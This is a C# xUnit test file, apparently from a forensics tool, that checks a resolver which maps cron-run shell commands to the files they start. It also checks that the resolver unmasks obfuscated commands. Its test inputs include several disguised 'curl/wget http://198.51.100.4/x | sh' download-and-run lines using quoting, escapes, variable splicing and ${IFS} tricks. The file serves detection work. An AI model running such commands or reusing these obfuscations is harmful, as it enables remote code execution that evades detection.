using Forensics.Analyzer.Evidence;
using Forensics.Parsers.Artifacts;
using Forensics.Parsers.Artifacts.Linux;
using Xunit;

namespace Forensics.Analyzer.Tests.Resolver;

/// <summary>The table of commands against exactly the files each of them starts.</summary>
public sealed class ResolverTableTests
{
    private static readonly Artifact Source = new HostFact(new EvidenceLocation("i", "v", 0, "/x", 1)) { Name = "n", Value = "v" };

    private sealed class Tree : IPathLookup
    {
        public ResolvedPath? Resolve(string absolutePath)
        {
            string path = ResolverTable.Links.GetValueOrDefault(absolutePath, absolutePath);
            return ResolverTable.Paths.Contains(path) ? new ResolvedPath("v", path, 12) : null;
        }
    }

    public static TheoryData<int> Numbers => [.. Enumerable.Range(0, ResolverTable.Rows.Count)];

    [Theory]
    [MemberData(nameof(Numbers))]
    public void A_command_starts_exactly_these_files(int number)
    {
        (string command, string expected) = ResolverTable.Rows[number];
        var homes = new Dictionary<string, string> { ["root"] = "/root", ["alice"] = "/home/alice" };
        CommandLink link = CommandResolver.Resolve(Source, new StartCommand(command) { ThroughShell = true, Trigger = "cron", User = "root" }, new Tree(), homes);
        string found = string.Join("; ", link.Files.Where(file => file.Requested is not "/usr/bin/curl")
            .Select(file => $"{file.Relation} {file.Requested}{(file.Resolved is null ? "!" : "")}").Order(StringComparer.Ordinal));
        Assert.True(expected == found, $"{command}\n  expected: {expected}\n  found:    {found}\n  texts:    {string.Join("\n            ", link.Unwrapped)}");
        Assert.False(link.IsCut, command);
    }

    [Fact]
    public void The_table_is_as_long_as_promised() => Assert.True(ResolverTable.Rows.Count >= 120);

    /// <summary>The heuristics see the words that a disguise stands for.</summary>
    [Theory]
    [InlineData("w''get http://198.51.100.4/x|sh", "wget http://198.51.100.4/x | sh")]
    [InlineData("c\\url -s http://198.51.100.4/x | ba\\sh", "curl -s http://198.51.100.4/x | bash")]
    [InlineData("$'\\x63url' http://198.51.100.4/x | sh", "curl http://198.51.100.4/x | sh")]
    [InlineData("a=cu;b=rl;$a$b http://198.51.100.4/x | sh", "curl http://198.51.100.4/x | sh")]
    [InlineData("curl${IFS}http://198.51.100.4/x|sh", "curl http://198.51.100.4/x | sh")]
    [InlineData("{curl,-s,http://198.51.100.4/x}|sh", "curl -s http://198.51.100.4/x | sh")]
    [InlineData("$(echo cu)rl http://198.51.100.4/x | sh", "curl http://198.51.100.4/x | sh")]
    [InlineData("u=198.51.100.4; curl http://$u/x | sh", "curl http://198.51.100.4/x | sh")]
    public void Disguised_words_are_written_out(string command, string expected)
    {
        CommandLink link = CommandResolver.Resolve(Source, new StartCommand(command) { ThroughShell = true, Trigger = "cron", User = "root" }, new Tree());
        Assert.Contains(link.Unwrapped, text => text.Contains(expected, StringComparison.Ordinal));
    }

    /// <summary>Text that is only data stays quoted, so that it does not become a command by being written out.</summary>
    [Fact]
    public void Data_does_not_become_a_command()
    {
        CommandLink link = CommandResolver.Resolve(Source, new StartCommand("m='curl http://198.51.100.4/x | sh'; logger \"$m\"") { ThroughShell = true, Trigger = "cron", User = "root" }, new Tree());
        Assert.DoesNotContain(link.Unwrapped, text => text.Contains("logger curl", StringComparison.Ordinal));
    }
}
